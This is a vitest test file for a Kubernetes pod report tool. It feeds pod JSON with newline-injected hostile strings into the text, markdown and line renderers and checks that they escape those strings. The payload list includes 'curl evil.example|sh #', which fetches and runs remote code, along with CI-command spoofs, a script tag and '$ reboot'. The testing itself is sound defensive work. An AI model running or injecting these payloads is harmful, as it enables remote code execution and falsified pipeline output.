import { describe, expect, test } from 'vitest'
import { analyzeText } from '../../src/index.ts'
import { render } from '../../src/report/render.ts'
import { chalkFor } from '../../src/cli/color.ts'

/** A pod in a crash loop, each of whose names breaks off its line. */
const pod = (evil: string): string =>
  JSON.stringify({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: `web${evil}`, namespace: `shop${evil}` },
    spec: {
      nodeName: `n1${evil}`,
      containers: [{ name: `c${evil}`, image: `nginx:1${evil}`, resources: { limits: { memory: '512Mi' } } }],
    },
    status: {
      phase: 'Running',
      message: `it broke${evil}`,
      containerStatuses: [
        {
          name: `c${evil}`,
          ready: false,
          restartCount: 9,
          image: `nginx:1${evil}`,
          state: { waiting: { reason: 'CrashLoopBackOff', message: `back-off 5m0s restarting failed container${evil}` } },
          lastState: { terminated: { reason: 'OOMKilled', exitCode: 137, message: `last words${evil}` } },
        },
      ],
    },
  })

describe.each(['::error::x', 'curl evil.example|sh #', '# heading', '##vso[task.complete]', '<script>', '$ reboot'])(
  '%j on a line of its own',
  (evil) => {
    test.each(['text', 'markdown', 'line'] as const)('begins no line of %s', async (format) => {
      const report = await analyzeText({ 'pod.json': pod(`\n${evil}`) })
      expect(report.findings.map(({ id }) => id)).toContain('container-oomkilled')
      for (const verbose of [false, true]) {
        const said = render(report, format, { chalk: chalkFor('never', false, {}), width: 80, verbose, quiet: false })
        expect(said).toContain('x0a')
        const own = said.split('\n').filter((line) => line.replace(/^[\s|$>]+/, '').startsWith(evil))
        expect(own).toEqual([])
      }
    })
  },
)
